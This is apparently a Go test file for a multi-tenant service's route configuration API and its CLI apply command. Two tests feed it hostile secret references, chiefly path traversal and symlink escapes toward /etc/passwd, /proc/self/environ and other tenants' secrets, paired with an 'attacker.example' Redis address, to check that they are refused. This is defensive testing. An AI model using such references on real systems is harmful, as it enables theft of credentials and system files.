package main

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/northstar/northstar/internal/apperr"
	"github.com/northstar/northstar/internal/routing"
)

type resolved struct {
	Route struct {
		MatchedScope string
		Route        struct {
			TenantID, ProjectID, BackendType string
			Version                          int
		}
	}
}

// resolve asks for the effective route, waiting (bounded) for the registry listener to
// deliver a change to want, since lookups are served from the in-process snapshot.
func (ts *testServer) resolve(t *testing.T, h headers, kind, wantScope string) resolved {
	t.Helper()
	var out resolved
	var r response
	waitForWithin(t, 5*time.Second, func() bool {
		out = resolved{}
		r = ts.gql(t, h, `query($k: String!) { route(resourceKind: $k) { matchedScope route { tenantId projectId backendType version } } }`, map[string]any{"k": kind})
		if len(r.Errors) > 0 {
			return wantScope == "" && r.code() == "ROUTE_MISSING"
		}
		r.decode(t, &out)
		return out.Route.MatchedScope == wantScope
	}, func() string {
		return fmt.Sprintf("route %s never matched %q: last answer HTTP %d %+v %+v", kind, wantScope, r.Status, r.Errors, out)
	})
	return out
}

func TestRoutes(t *testing.T) {
	ts := newServer(t)
	admin := ts.bootstrap(t)
	ann := ts.signup(t, "ann")
	project := ts.createProject(t, ann, "Site")
	sys := bearer(admin.Token).with("X-Tenant-Id", "t_system")
	annProd := ann.headers().with("X-Env", "prod")

	t.Run("SystemDefault", func(t *testing.T) {
		var out struct {
			SetRoute struct {
				Version   int
				UpdatedBy string
			}
		}
		ts.gql(t, sys, setRoute, routeInput("media", "t_system", "production", "gcs", map[string]string{"bucket": "sys-media"})).decode(t, &out)
		if out.SetRoute.Version != 1 || out.SetRoute.UpdatedBy != admin.UserID {
			t.Fatalf("setRoute = %+v", out.SetRoute)
		}
		got := ts.resolve(t, annProd, "media", "system")
		if got.Route.Route.TenantID != "t_system" {
			t.Fatalf("resolved %+v", got)
		}
	})
	t.Run("TenantAdminCannotSetSystemDefaults", func(t *testing.T) {
		expectError(t, ts.gql(t, bearer(ann.Token).with("X-Tenant-Id", "t_system"), setRoute, routeInput("seo", "t_system", "prod", "firestore", nil)), "FORBIDDEN", 403)
		expectError(t, ts.gql(t, ann.headers(), setRoute, routeInput("seo", "t_system", "prod", "firestore", nil)), "CONTEXT_MISMATCH", 400)
	})
	t.Run("CascadeTenantThenProject", func(t *testing.T) {
		var out struct{ SetRoute struct{ Version int } }
		ts.gql(t, ann.headers(), setRoute, routeInput("media", ann.TenantID, "prod", "gcs", map[string]string{"bucket": "ann-media"})).decode(t, &out)
		ts.resolve(t, annProd, "media", "tenant")
		ts.gql(t, ann.headers(), setRoute, routeInput("media", ann.TenantID, "prod", "s3", map[string]string{"bucket": "site", "region": "eu-west-1"}, "projectId", project)).decode(t, &out)
		got := ts.resolve(t, annProd.with("X-Project-Id", project), "media", "project")
		if got.Route.Route.BackendType != "s3" || got.Route.Route.ProjectID != project {
			t.Fatalf("resolved %+v", got)
		}
		ts.resolve(t, annProd, "media", "tenant") // without a project, the tenant's route
	})
	t.Run("Versions", func(t *testing.T) {
		in := routeInput("seo", ann.TenantID, "prod", "firestore", nil)
		var out struct{ SetRoute struct{ Version int } }
		ts.gql(t, ann.headers(), setRoute, in).decode(t, &out)
		expectError(t, ts.gql(t, ann.headers(), setRoute, in), "CONFLICT", 409) // create-only without expectedVersion
		in["i"].(map[string]any)["expectedVersion"] = 1
		ts.gql(t, ann.headers(), setRoute, in).decode(t, &out)
		if out.SetRoute.Version != 2 {
			t.Fatalf("version = %d, want 2", out.SetRoute.Version)
		}
		expectError(t, ts.gql(t, ann.headers(), setRoute, in), "CONFLICT", 409) // stale
		const del = `mutation($i: DeleteRouteInput!) { deleteRoute(input: $i) }`
		delIn := map[string]any{"i": map[string]any{"resourceKind": "seo", "tenantId": ann.TenantID, "env": "prod", "expectedVersion": 1}}
		expectError(t, ts.gql(t, ann.headers(), del, delIn), "CONFLICT", 409)
		delIn["i"].(map[string]any)["expectedVersion"] = 2
		var d struct{ DeleteRoute bool }
		ts.gql(t, ann.headers(), del, delIn).decode(t, &d)
		expectError(t, ts.gql(t, ann.headers(), del, delIn), "NOT_FOUND", 404)
		ts.resolve(t, annProd, "seo", "") // gone, and no system default: ROUTE_MISSING
	})
	t.Run("Refused", func(t *testing.T) {
		cases := map[string]map[string]any{
			"memory":        routeInput("kpi", ann.TenantID, "prod", "memory", nil),
			"noop":          routeInput("kpi", ann.TenantID, "prod", "noop", nil),
			"localhost":     routeInput("kpi", ann.TenantID, "prod", "localhost", nil),
			"unknown":       routeInput("kpi", ann.TenantID, "prod", "floppy", nil),
			"redisNoAddr":   routeInput("kpi", ann.TenantID, "prod", "redis", nil),
			"secretInCfg":   routeInput("kpi", ann.TenantID, "prod", "redis", map[string]string{"address": "r:6379", "password": "hunter2"}),
			"badSecretRef":  routeInput("kpi", ann.TenantID, "prod", "redis", map[string]string{"address": "r:6379"}, "secretRefs", []string{"hunter2"}),
			"badEnv":        routeInput("kpi", ann.TenantID, "qa", "firestore", nil),
			"foreignProjet": routeInput("kpi", ann.TenantID, "prod", "firestore", nil, "projectId", "p_notannsproject"),
		}
		for name, in := range cases {
			t.Run(name, func(t *testing.T) {
				expectError(t, ts.gql(t, ann.headers(), setRoute, in), "BAD_USER_INPUT", 400)
			})
		}
	})
	t.Run("SecretRefsNotValues", func(t *testing.T) {
		ref := "password=file://" + filepath.Join(ts.main.cfg.SecretsDir, ann.TenantID, "redis")
		var out struct{ SetRoute struct{ SecretRefs []string } }
		ts.gql(t, ann.headers(), setRoute, routeInput("rate_limit", ann.TenantID, "prod", "redis", map[string]string{"address": "r:6379"},
			"secretRefs", []string{ref})).decode(t, &out)
		if len(out.SetRoute.SecretRefs) != 1 || out.SetRoute.SecretRefs[0] != ref {
			t.Fatalf("secretRefs = %v", out.SetRoute.SecretRefs)
		}
	})
	t.Run("SecretRefsConfined", func(t *testing.T) {
		dir := ts.main.cfg.SecretsDir
		mine := filepath.Join(dir, ann.TenantID)
		if err := os.MkdirAll(mine, 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink("/etc/passwd", filepath.Join(mine, "escape")); err != nil {
			t.Fatal(err)
		}
		hostile := map[string]string{
			"EtcPasswd":     "file:///etc/passwd",
			"ProcEnviron":   "file:///proc/self/environ",
			"RelativeHost":  "file://../../etc/passwd",
			"DotDot":        "file://" + mine + "/../../../etc/passwd",
			"OtherTenant":   "file://" + filepath.Join(dir, "t_other", "redis"),
			"SystemSecret":  "file://" + filepath.Join(dir, "t_system", "redis"),
			"SigningKeyDir": "file://" + filepath.Join(dir, "signing-key.pem"),
			"SymlinkOut":    "file://" + filepath.Join(mine, "escape"),
			"GcpSM":         "gcp-sm://projects/p/secrets/redis/versions/latest",
			"EnvOfServer":   "env://SYSTEM_BOOTSTRAP_KEY",
		}
		for name, ref := range hostile {
			t.Run(name, func(t *testing.T) {
				in := routeInput("chat_bus", ann.TenantID, "prod", "redis", map[string]string{"address": "attacker.example:6379"},
					"secretRefs", []string{"password=" + ref})
				expectError(t, ts.gql(t, ann.headers(), setRoute, in), "BAD_USER_INPUT", 400)
				k := routing.Key{ResourceKind: "chat_bus", Scope: routingScope(ann.TenantID, "prod")}
				if _, err := ts.main.store.GetRoute(context.Background(), k); !apperr.Is(err, apperr.NotFound) {
					t.Fatalf("after a refused write, GetRoute = %v; want NOT_FOUND", err)
				}
			})
		}
		// The system's own routes get the system's folder and nothing else.
		sys := bearer(admin.Token).with("X-Tenant-Id", "t_system")
		expectError(t, ts.gql(t, sys, setRoute, routeInput("rate_limit", "t_system", "prod", "redis", map[string]string{"address": "r:6379"},
			"secretRefs", []string{"password=file://" + filepath.Join(mine, "redis")})), "BAD_USER_INPUT", 400)
		var out struct{ SetRoute struct{ Version int } }
		ts.gql(t, sys, setRoute, routeInput("rate_limit", "t_system", "prod", "redis", map[string]string{"address": "r:6379"},
			"secretRefs", []string{"password=file://" + filepath.Join(dir, "t_system", "redis")})).decode(t, &out)
	})
	t.Run("ContextMissingEnv", func(t *testing.T) {
		expectError(t, ts.gql(t, ann.headers(), `{ route(resourceKind: "media") { matchedScope } }`, nil), "CONTEXT_MISSING", 400)
	})
	t.Run("ListOwn", func(t *testing.T) {
		var out struct {
			Routes []struct{ TenantID, Env string }
		}
		ts.gql(t, ann.headers(), `{ routes(env: "prod") { tenantId env } }`, nil).decode(t, &out)
		if len(out.Routes) == 0 {
			t.Fatal("no routes listed")
		}
		for _, r := range out.Routes {
			if r.TenantID != ann.TenantID || r.Env != "prod" {
				t.Fatalf("listed %+v", r)
			}
		}
	})
}

// TestRoutesPlan: a pasted routes file is planned against the stored routes, field by
// field, and nothing is written; a file for another tenant, one that does not parse and
// one a VIEWER sends are refused.
func TestRoutesPlan(t *testing.T) {
	ts := newServer(t)
	ann := ts.signup(t, "ann")
	var set struct{ SetRoute struct{ Version int } }
	ts.gql(t, ann.headers(), setRoute, routeInput("kpi", ann.TenantID, "prod", "bigquery", map[string]string{"project": "p", "dataset": "kpi"})).decode(t, &set)
	ts.gql(t, ann.headers(), setRoute, routeInput("seo", ann.TenantID, "prod", "firestore", map[string]string{"database": "(default)"})).decode(t, &set)
	file := fmt.Sprintf(`routes:
  - {resourceKind: kpi, tenantId: %[1]s, env: prod, backendType: bigquery, config: {project: p, dataset: kpi2}}
  - {resourceKind: seo, tenantId: %[1]s, env: prod, backendType: firestore, config: {database: "(default)"}}
  - {resourceKind: media, tenantId: %[1]s, env: prod, backendType: gcs, config: {bucket: m}}
`, ann.TenantID)
	const plan = `query($f: String!) { routesPlan(file: $f) { resourceKind tenantId env projectId outcome changes { field from to } } }`
	var out struct {
		RoutesPlan []struct {
			ResourceKind, TenantID, Env, Outcome string
			ProjectID                            *string
			Changes                              []struct {
				Field    string
				From, To *string
			}
		}
	}
	ts.gql(t, ann.headers(), plan, map[string]any{"f": file}).decode(t, &out)
	text := func(s *string) string {
		if s == nil {
			return "∅"
		}
		return *s
	}
	got := map[string]string{}
	for _, e := range out.RoutesPlan {
		var changes []string
		for _, c := range e.Changes {
			changes = append(changes, fmt.Sprintf("%s: %s -> %s", c.Field, text(c.From), text(c.To)))
		}
		got[e.ResourceKind] = e.Outcome + " " + strings.Join(changes, "; ")
	}
	want := map[string]string{
		"kpi":   "UPDATE config: dataset=kpi, project=p -> dataset=kpi2, project=p",
		"seo":   "UNCHANGED ",
		"media": "CREATE backendType: ∅ -> gcs; config: ∅ -> bucket=m",
	}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("plan = %v\nwant   %v", got, want)
	}
	var routes struct {
		Routes []struct{ ResourceKind string }
	}
	ts.gql(t, ann.headers(), `{ routes { resourceKind } }`, nil).decode(t, &routes)
	if len(routes.Routes) != 2 {
		t.Errorf("routes after the plan: %+v, want the two set before (a plan writes nothing)", routes.Routes)
	}

	bob := ts.signup(t, "bob")
	expectError(t, ts.gql(t, bob.headers(), plan, map[string]any{"f": file}), "FORBIDDEN", 403)
	viewer := ts.addMemberAs(t, ann, ts.signup(t, "vera"), "VIEWER")
	expectError(t, ts.gql(t, viewer.headers(), plan, map[string]any{"f": file}), "FORBIDDEN", 403)
	bad := ts.gql(t, ann.headers(), plan, map[string]any{"f": "routes:\n  - {resourceKind: kpi, tenantId: " + ann.TenantID + ", env: prod, backendType: memory}\n"})
	expectError(t, bad, "BAD_USER_INPUT", 400)
	if !strings.Contains(bad.Errors[0].Message, "line 2") {
		t.Errorf("refusal %q does not name the line", bad.Errors[0].Message)
	}
}

// TestRouteChangeReachesReplica writes a route through one server and reads it through
// another on the same Firestore project: the second sees it through its listener.
func TestRouteChangeReachesReplica(t *testing.T) {
	a := newServer(t)
	admin := a.bootstrap(t)
	b := newServer(t, withProject(a.project))
	start := time.Now()
	var out struct{ SetRoute struct{ Version int } }
	a.gql(t, bearer(admin.Token).with("X-Tenant-Id", "t_system"), setRoute, routeInput("kpi", "t_system", "staging", "bigquery", map[string]string{"project": "p", "dataset": "kpi"})).decode(t, &out)
	waitForWithin(t, 2*time.Second, func() bool {
		_, ok := b.main.registry.Resolve("kpi", routingScope("t_whoever", "staging"))
		return ok
	}, func() string { return "the replica did not see the route" })
	t.Logf("replica saw the change %s after the write began", time.Since(start).Round(time.Millisecond))
}

func TestRoutesApplyCommand(t *testing.T) {
	ts := newServer(t)
	admin := ts.bootstrap(t)
	env := Environment{ProjectID: ts.project, EmulatorHost: emulatorHost}
	dir := t.TempDir()
	file := filepath.Join(dir, "routes.yaml")
	if err := os.WriteFile(file, devRoutes, 0o600); err != nil {
		t.Fatal(err)
	}
	apply := func(t *testing.T, extra ...string) (int, string, string) {
		t.Helper()
		var stdout, stderr bytes.Buffer
		args := append([]string{"routes", "apply", "-f", file, "--var", "redis=127.0.0.1:6399"}, extra...)
		code := run(context.Background(), args, env, &stdout, &stderr)
		return code, stdout.String(), stderr.String()
	}

	t.Run("DryRunWritesNothing", func(t *testing.T) {
		code, out, errOut := apply(t, "--dry-run")
		if code != 0 || !strings.Contains(out, "would be created") || !strings.Contains(out, "dry run") {
			t.Fatalf("exit %d\n%s%s", code, out, errOut)
		}
		snaps, err := ts.main.client.Collection("routes").Documents(context.Background()).GetAll()
		if err != nil || len(snaps) != 0 {
			t.Fatalf("dry run wrote %d routes (%v)", len(snaps), err)
		}
	})
	t.Run("ApplyThenNoChanges", func(t *testing.T) {
		code, out, errOut := apply(t)
		if code != 0 || !strings.Contains(out, "16 created, 0 updated, 0 unchanged") {
			t.Fatalf("first apply: exit %d\n%s%s", code, out, errOut)
		}
		// The command is the actor: the operator when known, "cli" otherwise.
		evs, _ := ts.auditLog(t, bearer(admin.Token).with("X-Tenant-Id", "t_system"), map[string]any{"action": "route.set", "first": 100})
		if len(evs) == 0 {
			t.Fatal("routes apply left no route.set events in t_system's log")
		}
		for _, ev := range evs {
			if ev.Actor.Kind != "SYSTEM" || ev.Actor.ID != "cli" || ev.Actor.Label == "" {
				t.Fatalf("routes apply recorded actor %+v, want SYSTEM cli with the operator", ev.Actor)
			}
		}
		code, out, errOut = apply(t)
		if code != 0 || !strings.Contains(out, "no changes: 16 routes already up to date") {
			t.Fatalf("second apply: exit %d\n%s%s", code, out, errOut)
		}
	})
	t.Run("Update", func(t *testing.T) {
		var stdout, stderr bytes.Buffer
		code := run(context.Background(), []string{"routes", "apply", "-f", file, "--var", "redis=127.0.0.1:6400"}, env, &stdout, &stderr)
		if code != 0 || !strings.Contains(stdout.String(), "0 created, 2 updated, 14 unchanged") {
			t.Fatalf("exit %d\n%s%s", code, stdout.String(), stderr.String())
		}
	})
	t.Run("BadFileNamesLineAndField", func(t *testing.T) {
		bad := filepath.Join(dir, "bad.yaml")
		content := "routes:\n  - resourceKind: chat_bus\n    tenantId: t_system\n    env: dev\n    backendType: memory\n"
		if err := os.WriteFile(bad, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
		var stdout, stderr bytes.Buffer
		code := run(context.Background(), []string{"routes", "apply", "-f", bad}, env, &stdout, &stderr)
		if code == 0 || !strings.Contains(stderr.String(), "line 5: routes[0].backendType") {
			t.Fatalf("exit %d, stderr %q", code, stderr.String())
		}
	})
	t.Run("RefusesOutOfBoundsSecrets", func(t *testing.T) {
		secretsDir := t.TempDir()
		if err := os.MkdirAll(filepath.Join(secretsDir, "t_acme"), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink("/etc/passwd", filepath.Join(secretsDir, "t_acme", "escape")); err != nil {
			t.Fatal(err)
		}
		refs := map[string]struct{ tenant, ref, want string }{
			"EtcPasswd":   {"t_acme", "file:///etc/passwd", "outside the secrets directory"},
			"ProcEnviron": {"t_system", "file:///proc/self/environ", "outside the secrets directory"},
			"Relative":    {"t_acme", "file://../../etc/passwd", "want file:///absolute/path"},
			"DotDot":      {"t_acme", "file://" + secretsDir + "/t_acme/../t_system/redis", "not clean"},
			"OtherTenant": {"t_acme", "file://" + secretsDir + "/t_system/redis", "outside the secrets directory"},
			"SymlinkOut":  {"t_acme", "file://" + secretsDir + "/t_acme/escape", "symlink leads outside"},
			"GcpSM":       {"t_acme", "gcp-sm://projects/p/secrets/redis/versions/1", "has no resolver"},
		}
		for name, c := range refs {
			t.Run(name, func(t *testing.T) {
				f := filepath.Join(dir, name+".yaml")
				content := "routes:\n  - resourceKind: secret_probe\n    tenantId: " + c.tenant + "\n    env: prod\n    backendType: redis\n" +
					"    config: {address: \"attacker.example:6379\"}\n    secretRefs: [\"password=" + c.ref + "\"]\n"
				if err := os.WriteFile(f, []byte(content), 0o600); err != nil {
					t.Fatal(err)
				}
				var stdout, stderr bytes.Buffer
				code := run(context.Background(), []string{"routes", "apply", "-f", f, "--secrets-dir", secretsDir}, env, &stdout, &stderr)
				if code == 0 || !strings.Contains(stderr.String(), "secretRefs") || !strings.Contains(stderr.String(), c.want) {
					t.Fatalf("exit %d, stderr %q; want secretRefs and %q", code, stderr.String(), c.want)
				}
				k := routing.Key{ResourceKind: "secret_probe", Scope: routingScope(c.tenant, "prod")}
				if _, err := ts.main.store.GetRoute(context.Background(), k); !apperr.Is(err, apperr.NotFound) {
					t.Fatalf("GetRoute = %v; want NOT_FOUND", err)
				}
			})
		}
		t.Run("InBounds", func(t *testing.T) {
			f := filepath.Join(dir, "good.yaml")
			content := "routes:\n  - {resourceKind: secret_probe, tenantId: t_acme, env: prod, backendType: redis, config: {address: \"r:6379\"}, " +
				"secretRefs: [\"password=file://" + secretsDir + "/t_acme/redis\"]}\n"
			if err := os.WriteFile(f, []byte(content), 0o600); err != nil {
				t.Fatal(err)
			}
			var stdout, stderr bytes.Buffer
			if code := run(context.Background(), []string{"routes", "apply", "-f", f, "--secrets-dir", secretsDir}, env, &stdout, &stderr); code != 0 {
				t.Fatalf("exit %d, stderr %q", code, stderr.String())
			}
		})
	})
	t.Run("MissingVar", func(t *testing.T) {
		var stdout, stderr bytes.Buffer
		code := run(context.Background(), []string{"routes", "apply", "-f", file}, env, &stdout, &stderr)
		if code == 0 || !strings.Contains(stderr.String(), "${redis}") {
			t.Fatalf("exit %d, stderr %q", code, stderr.String())
		}
	})
}

func routingScope(tenant, env string) routing.Scope { return routing.Scope{TenantID: tenant, Env: env} }
